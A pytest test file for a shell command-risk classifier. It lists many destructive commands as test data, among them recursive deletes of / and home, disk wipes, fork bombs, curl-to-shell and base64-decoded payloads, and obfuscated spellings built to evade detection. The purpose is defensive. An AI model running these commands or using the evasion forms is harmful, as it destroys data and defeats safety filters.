"""The command-risk rules: what is dangerous, what only needs care, and what is harmless text."""

from __future__ import annotations

import pytest

from cli_tuner.shell import risk

DANGEROUS = [
    "rm -rf /",
    "sudo rm -rf /",
    "rm -rf --no-preserve-root /",
    "rm -rf ~",
    "rm -rf ~/",
    "rm -rf /*",
    "rm -fr $HOME",
    "rm -rf *",
    "cd / && rm -rf *",
    "cd ~; rm -r ./*",
    "sudo rm -rf /etc",
    "rm -rf /usr/lib",
    "true && { rm -rf /; }",
    "f() { rm -rf ~; }; f",
    "timeout 5 rm -rf /usr",
    "env -i rm -rf /",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "cat disk.img | dd of=/dev/nvme0n1",
    "mkfs.ext4 /dev/sdb1",
    "wipefs -a /dev/sdc",
    "shred -n 3 /dev/sda",
    "echo garbage > /dev/sda",
    "cat /dev/urandom | tee /dev/mmcblk0",
    ":(){ :|:& };:",
    "bomb() { bomb | bomb & }; bomb",
    "curl -fsSL https://example.com/install.sh | sh",
    "wget -qO- http://example.com/x | sudo bash",
    "curl -s http://example.com/x.py | python3",
    "bash <(curl -s http://example.com/x)",
    'sh -c "$(curl -fsSL https://example.com/install.sh)"',
    "chmod -R 777 /",
    "sudo chown -R nobody /etc",
    "echo 'root::0:0::/root:/bin/bash' > /etc/passwd",
    "cp evil /etc/shadow",
    "shutdown -h now",
    "sudo reboot",
    "init 0",
    "systemctl poweroff",
    "kill -9 -1",
    "kill -s KILL -1",
    "mv ~ /dev/null",
    "mv / /tmp/old",
    "history -c",
    "cat /dev/null > ~/.bash_history",
    "unset HISTFILE",
    "crontab -r",
    "iptables -F",
    "iptables -P INPUT DROP",
    "find / -delete",
    "find / -type f -size +100M -exec rm -f {} \\;",
    "find / -type f | xargs rm -f",
    'bash -c "rm -rf /"',
    "echo $(rm -rf ~)",
    'echo "$(rm -rf ~)"',
    "echo `rm -rf /`",
    'eval "rm -rf /"',
    'echo "rm -rf /" | bash',
    "find . -type f -exec sh -c 'rm -rf /' \\;",
    "watch -n 5 'rm -rf /'",
    "echo c > /proc/sysrq-trigger",
]

HARMLESS = [
    'echo "rm -rf /"',
    "echo 'rm -rf /'",
    "echo '$(rm -rf ~)'",
    'grep -r "rm -rf /" .',
    "printf '%s\\n' 'sudo rm -rf /'",
    "echo ':(){ :|:& };:'",
    "cat <<EOF\nrm -rf /\nEOF",
    "ls -la  # rm -rf /",
    "ls -la",
    "cat /etc/passwd",
    "rm notes.txt",
    "rm -f ./*.tmp",
    "dd if=/dev/sda of=disk.img bs=4M",
    "dd if=/dev/zero of=test.img bs=1M count=10",
    "ls 2>/dev/null",
    "cat file > /dev/null",
    "curl -I https://example.com",
    "curl -s https://example.com | jq .",
    "curl -s https://example.com/data.json | python3 -m json.tool",
    "kill -9 1234",
    "kill -0 1",
    "kill -l",
    "shutdown -c",
    "chmod 644 file.txt",
    "chmod +x deploy.sh",
    "sudo chown -R www-data:www-data /var/www/site",
    "find . -name '*.log' -mtime +30",
    "find / -name '*.bak' -delete",
    "find . \\( -name a -o -name b \\) -print",
    "tar -czf backup.tar.gz ~/Documents",
    "git log --oneline | head",
    "history | tail -n 20",
    "crontab -l",
    "iptables -L -n",
    "mv report.txt /tmp/report.txt",
    "ls \"a;b\" | grep x",
    "awk '{print $(NF-1)}' data.txt",
    "sudo apt-get update",
    "echo \"$HOME\"",
]

CAUTION_ONLY = [
    "rm -rf build",
    "cd /tmp/work && rm -rf *",
    'rm -rf "$DIR/"*',
    "find . -name '*.pyc' -delete",
    "chmod -R 777 shared",
    "git reset --hard",
    "shred -u secrets.txt",
]


@pytest.mark.parametrize("command", DANGEROUS)
def test_dangerous_commands_are_flagged(command):
    findings = risk.assess(command)
    assert risk.is_dangerous(command), findings
    assert findings[0].severity == risk.DANGEROUS  # dangerous findings come first
    assert all(f.rule and f.message for f in findings)


@pytest.mark.parametrize("command", HARMLESS)
def test_harmless_commands_are_not_dangerous(command):
    assert not risk.is_dangerous(command), risk.assess(command)


@pytest.mark.parametrize("command", CAUTION_ONLY)
def test_risky_but_deliberate_commands_are_caution(command):
    findings = risk.assess(command)
    assert findings, f"{command!r} should need a second look"
    assert {f.severity for f in findings} == {risk.CAUTION}, findings


@pytest.mark.parametrize("command", ["ls -la", "echo 'rm -rf /'", "git status -s", "df -h"])
def test_plain_commands_have_no_findings(command):
    assert risk.assess(command) == []


def test_a_finding_names_the_rule_and_the_target():
    (finding,) = risk.assess("sudo rm -rf /etc")
    assert finding == risk.RiskFinding("recursive-delete", risk.DANGEROUS, finding.message)
    assert "/etc" in finding.message


def test_findings_are_not_repeated():
    findings = risk.assess("rm -rf / ; rm -rf /")
    assert len(findings) == len(set(findings)) == 1


@pytest.mark.parametrize("word, kind", [
    ("/", risk.ROOT), ("/*", risk.ROOT), ("//", risk.ROOT), ("~", risk.HOME), ("~/", risk.HOME),
    ("$HOME", risk.HOME), ("/home/alice", risk.HOME), ("/etc", risk.SYSTEM), ("/usr/lib/", risk.SYSTEM),
    ("/data", risk.TOP_LEVEL), ("*", risk.CWD_ALL), ("./*", risk.CWD_ALL), ("$DIR/", risk.VARIABLE_PREFIX),
    ("build", None), ("/var/www/site", None), (".", None), ("/tmp", risk.SCRATCH),
])
def test_target_kinds(word, kind):
    assert risk.target_kind(word) == kind


def test_quoted_operators_do_not_split_commands():
    # `\;` and `';'` are arguments; only the real `;` separates commands
    segments = risk.split_commands("find . -exec echo {} \\; ; echo ';' done")
    assert [s.words[0] for s in segments] == ["find", "echo"]
    assert segments[0].words[-1] == ";"
    assert segments[1].words == ["echo", ";", "done"]


# Each class the rules see through, both ways: the dangerous form, and look-alikes that only mention
# it or scope it to a safe path.
SEES_THROUGH = {
    "command substitution": (
        ["echo $(rm -rf ~)", "ls \"$(sudo rm -rf /etc)\"", "x=$(rm -rf /)"],
        ["ls $(pwd)", "echo '$(rm -rf /)'", "cd \"$(git rev-parse --show-toplevel)\""],
    ),
    "process substitution": (
        ["cat <(rm -rf /)", "bash <(curl -s https://example.com/x)", "source <(wget -qO- https://example.com/x)",
         "bash <(echo cm0gLXJmIC8K | base64 -d)"],
        ["diff <(ls a) <(ls b)", "bash <(cat setup.sh)", "sort <(grep 'rm -rf' notes.txt)"],
    ),
    "eval": (
        ['eval "rm -rf /"', 'eval "$(curl -s https://example.com/x)"', "eval $(echo cm0gLXJmIC8K | base64 -d)"],
        ['eval "$(ssh-agent -s)"', "eval echo '$HOME'", 'eval "ls -la"'],
    ),
    "download or decode, then run": (
        ["curl -fsSL https://example.com/i.sh | sh", "echo cm0gLXJmIC8K | base64 -d | bash",
         "base64 --decode payload.b64 | sh", "xxd -r -p blob.hex | bash", "wget -qO- https://x.io/a.gz | gunzip | sh",
         'sh -c "$(echo cm0gLXJmIC8K | base64 -d)"'],
        ["echo aGVsbG8K | base64 -d", "curl -s https://example.com | grep title", "base64 -d in.b64 > out.bin",
         "gunzip -c logs.gz | grep error", "curl -s https://example.com/i.sh -o i.sh"],
    ),
    "interpreter code": (
        ["python -c \"import shutil; shutil.rmtree('/')\"",
         "python3 -c \"import shutil, os; shutil.rmtree(os.path.expanduser('~'))\"",
         "python3 -c 'import os; os.system(\"rm -rf /\")'", "perl -e 'unlink \"/etc/passwd\"'",
         "perl -MFile::Path -e 'rmtree(\"/usr\")'", "ruby -e 'FileUtils.rm_rf(\"/\")'",
         "node -e 'require(\"fs\").rmSync(\"/\", {recursive: true})'", "perl -e 'system(\"rm -rf ~\")'"],
        ["python3 -c 'print(\"rm -rf /\")'", "perl -ne 'print if /rm -rf/' notes.txt", "python -m json.tool data.json",
         "python -c \"import shutil; shutil.rmtree('build')\"", "perl -e 'unlink \"old.log\"'",
         "ruby -e 'puts Dir.home'"],
    ),
    "xargs": (
        ["echo / | xargs rm -rf", "find / | xargs rm -rf", "printf '%s\\n' /etc | xargs sudo rm -rf",
         "ls | xargs -I{} sh -c 'rm -rf /'"],
        ["ls | xargs echo rm -rf /", "find . -name '*.o' | xargs rm -f", "echo build | xargs rm -rf",
         "grep -l 'rm -rf' *.sh | xargs wc -l"],
    ),
    "find -exec": (
        ["find / -exec rm -rf {} +", "find ~ -type f -exec rm {} \\;", "find . -exec sh -c 'rm -rf ~' \\;",
         "find /etc -execdir rm -f {} \\;"],
        ["find . -name '*.pyc' -delete", "find . -name '*.log' -exec rm {} +", "find . -exec echo rm -rf / \\;",
         "find . -type f -exec grep -l 'rm -rf /' {} +"],
    ),
    "brace expansion": (
        ["rm -rf /{etc,usr}", "sudo rm -rf /usr/{lib,bin}", "rm -rf ~/{,.}*", "chmod -R 777 /{etc,var}"],
        ["rm -rf ./{build,dist}", "mkdir -p src/{a,b}", "echo /{etc,usr}", "echo rm -rf /{etc,usr}",
         "cp file{,.bak}"],
    ),
    "mentions only": (
        [],
        ['echo "rm -rf /"', "grep 'rm -rf' notes.txt", "printf 'curl x | sh\\n'", "man rm",
         "echo 'python -c \"import shutil; shutil.rmtree(\\\"/\\\")\"'", "rm -rf ./build"],
    ),
}


@pytest.mark.parametrize("kind, command", [(k, c) for k, (bad, _) in SEES_THROUGH.items() for c in bad])
def test_rules_see_through(kind, command):
    assert risk.is_dangerous(command), (kind, risk.assess(command))


@pytest.mark.parametrize("kind, command", [(k, c) for k, (_, fine) in SEES_THROUGH.items() for c in fine])
def test_look_alikes_are_not_dangerous(kind, command):
    assert not risk.is_dangerous(command), (kind, risk.assess(command))


def test_pipeline_stages_are_linked_through_nested_redirections():
    from cli_tuner.shell import parse

    segments = parse.split_commands("curl -s x 2>/dev/null | tee log | sh")
    assert [s.words[0] for s in segments] == ["curl", "tee", "sh"]
    assert [s.stage for s in segments] == [0, 1, 2] and segments[2].upstream() == segments[:2]
    assert risk.is_dangerous("curl -s x 2>/dev/null | tee log | sh")


def test_malformed_text_still_parses():
    assert risk.is_dangerous("rm -rf / 'unclosed")  # tolerant: the command before the bad quote is still read


# ------------------------------------------------------------------ other spellings of the same act
# Each class: forms that do the dangerous thing under another spelling (each refused), and look-alikes
# that only resemble it (each allowed: not dangerous).

OTHER_SPELLINGS = {
    "a command name built at run time": (
        ["$(echo rm) -rf /", "`echo rm` -rf /", "$(printf rm) -rf /", "$(printf '%s' rm) -rf ~", '"$(echo r)m" -rf /etc',
         "x=rm; $x -rf /", "x=rm && $x -rf /", "c=rm f=-rf t=/; $c $f $t", "export c=rm; $c -rf ~", "x=r; y=m; $x$y -rf /",
         "cmd='rm -rf /'; $cmd", 'a=/; rm -rf "$a"', 'rm -rf "$(echo /)"', "rm -rf $(printf /etc)",
         "rm${IFS}-rf${IFS}/", "rm$IFS-rf$IFS/etc", "{rm,-rf,/}", "$'\\x72\\x6d' -rf /", "$'\\162m' -rf /usr", "r''m -rf /",
         "$X -rf /", "$(cat cmd.txt) -rf /", '"$c" -fr /etc', "rm -rf /$X", "rm -rf /${DIR}", 'rm -rf "/$(cat name)"',
         "for c in rm; do $c -rf /; done", "declare d=/; sudo rm -rf $d"],
        ["x=ls; $x -la", "$(echo ls) -la", "echo ${IFS}", "cmd=echo; $cmd rm -rf /", "$EDITOR notes.txt",
         "x='rm -rf /'; echo \"$x\"", '"$(which python3)" script.py', "$'\\x6c\\x73' -la", "x=/; ls $x",
         "d=build; rm -rf $d", "echo {rm,-rf,/}", "for f in a b; do echo $f; done"],
    ),
    "a fork bomb": (
        [":(){ :|:& };:", "f(){ f|f& };f", "bomb() { bomb | bomb & }; bomb", "function f { f|f & }; f",
         "function f() { f & f; }; f", "a(){ a& a& }; a", "x(){ x & }; x", "_(){ _|_& };_",
         "f(){ $FUNCNAME|$FUNCNAME& };f", "f(){ f | cat; }; f", "g() { (g &); g; }; g", "bash -c ':(){ :|:& };:'",
         "eval 'b(){ b|b& };b'", "while true; do sleep 1 & done", "while :; do (bash &); done",
         "until false; do sh -c 'sleep 9' & done", "for ((;;)); do yes > /dev/null & done",
         "perl -e 'fork while 1'", "perl -e 'while(1){fork}'", "python3 -c 'import os\nwhile True: os.fork()'",
         'python -c "import os\nwhile 1:\n    os.fork()"', "ruby -e 'loop { fork }'", "php -r 'while(1) pcntl_fork();'",
         "node -e 'while (true) require(\"child_process\").fork(__filename)'",
         "python3 <<< 'import os\nwhile True: os.fork()'", "echo 'fork while 1' | perl"],
        ["f(){ echo hi; }; f", "f(){ f; }; f", "countdown(){ [ $1 -gt 0 ] && countdown $(($1-1)); }; countdown 3",
         "f(){ g | g & }; f", "sleep 1 & sleep 2 &", 'while read f; do gzip "$f" & done < list.txt',
         "for i in 1 2 3; do sleep $i & done; wait", "perl -e 'my $pid = fork; exit if $pid'",
         "python3 -c 'import os; print(os.fork)'", "echo 'while true; do f & done'", "make -j4 2>&1 | tee log &",
         "while true; do date; sleep 1; done", "echo ':(){ :|:& };:'"],
    ),
    "code handed to a shell": (
        ["bash <<< 'rm -rf /'", 'sh <<< "rm -rf ~"', "bash -c -- 'rm -rf /'", 'sh -c -- "rm -rf ~"',
         "bash --norc -c 'rm -rf /'", "bash -ec 'rm -rf /'", "bash <(echo 'rm -rf /')", "sh < <(echo 'rm -rf /')",
         "source <(printf 'rm -rf ~')", ". <(echo rm -rf /)", "printf 'rm -rf /\\n' | bash", "echo rm -rf / | sh -s",
         "cat <<EOF | sh\nrm -rf /\nEOF", "sh <<EOF\nrm -rf ~\nEOF", "bash -c \"$(printf 'rm -rf /')\"",
         "sh -c '\"$@\"' _ rm -rf /", "env bash -c 'rm -rf /'", "sudo -u root -- sh -c 'rm -rf /'",
         "echo / | xargs rm -rf", "printf '/\\n' | xargs -I{} rm -rf {}", "echo /etc | xargs -n1 sudo rm -rf",
         "xargs rm -rf <<< /", "exec sh -c 'rm -rf ~'", "busybox sh -c 'rm -rf /'",
         "echo 'rm -rf /' > x.sh && bash x.sh", "cat > a.sh <<EOF\nrm -rf ~\nEOF\nchmod +x a.sh; ./a.sh",
         "sh -c 'rm -rf \"$0\"' /", "bash -c \"$(base64 -d <<< cm0gLXJmIC8=)\""],
        ["bash <<< 'echo hi'", "sh -c -- 'ls -la'", "echo 'rm -rf /' > notes.txt", "bash <(echo 'echo rm -rf /')",
         "sh <<EOF\nls\nEOF", "python3 <<< 'print(1)'", "grep -l TODO *.py | xargs wc -l", "echo build | xargs rm -rf",
         "sh -c 'echo \"$1\"' _ 'rm -rf /'", "bash -c -- 'echo done'", "echo 'ls -la' > x.sh && bash x.sh",
         "echo 'rm -rf /' > notes.txt && cat notes.txt"],
    ),
    "find / with a test that matches everything": (
        ["find / -name '*' -delete", 'find / -name "*" -exec rm -rf {} +', "find / -iname '*' -exec rm {} \\;",
         "find / -path '*' -delete", "find / -regex '.*' -delete", "find / ! -name nothing -delete",
         "find / -not -name x.txt -exec rm -f {} +", "find /etc -name '*' -delete", "find ~ -name '*' -delete",
         "find / -name '?*' -delete", "find / -name '*' -print0 | xargs -0 rm -rf", "find /. -delete",
         "find //usr -delete", "find / -type f -name '*' -exec /bin/rm {} +"],
        ["find . -name '*' -print", "find / -name '*.bak' -delete", "find / -name '*' -print",
         "find . -name '*' -delete", "find / -name '*' -exec ls {} +", "find / -name '*.tmp' ! -name keep.tmp -delete"],
    ),
    "a path through ..": (
        ["rm -rf /usr/..", "rm -rf /tmp/../", "rm -rf /tmp/../*", "rm -rf /tmp/../etc", "rm -rf /home/user/../../",
         "rm -rf ~/..", "rm -rf $HOME/../..", "cd /tmp && rm -rf ../*", "cd /usr/local; rm -rf ../../etc",
         "cd /etc/.. && rm -rf *", "cd / && cd usr && rm -rf ../*", "chmod -R 777 /tmp/..", "cd ~/.. && rm -rf *",
         "mv /usr/../etc /tmp/x", "find /tmp/.. -delete", "rm -rf ./../../../../../../../../../../../.."],
        ["cd src/.. && rm -rf build", "rm -rf ./build/../dist", "ls /usr/..", "cd /tmp/.. && ls",
         "rm -rf /tmp/foo/../bar", "cd /tmp && rm -rf ../tmp/work", "cp ../config.yml ."],
    ),
}


@pytest.mark.parametrize("kind, command", [(k, c) for k, (bad, _) in OTHER_SPELLINGS.items() for c in bad])
def test_other_spellings_are_refused(kind, command):
    assert risk.is_dangerous(command), (kind, risk.assess(command))


@pytest.mark.parametrize("kind, command", [(k, c) for k, (_, fine) in OTHER_SPELLINGS.items() for c in fine])
def test_look_alikes_of_other_spellings_stay_allowed(kind, command):
    assert not risk.is_dangerous(command), (kind, risk.assess(command))


# a destructive verb meeting what the rules cannot resolve: never "safe"
UNRESOLVED = ["$X -rf build", "$cmd /etc", 'rm -rf "$(cat list.txt)"', "cat list.txt | xargs rm -rf",
              "xargs rm -rf < list.txt", "$(get_tool) -r /", "rm -rf $(ls)"]


@pytest.mark.parametrize("command", UNRESOLVED)
def test_unresolvable_destructive_commands_are_at_least_caution(command):
    assert risk.assess(command), f"{command!r} was judged safe"


@pytest.mark.parametrize("command", ["ls -la", "x=ls; $x", "$EDITOR notes.txt", "find . -name '*' -print",
                                     "echo $(date)", "f(){ f; }; f", "for f in *.txt; do wc -l \"$f\"; done"])
def test_look_alikes_have_no_findings(command):
    assert risk.assess(command) == []
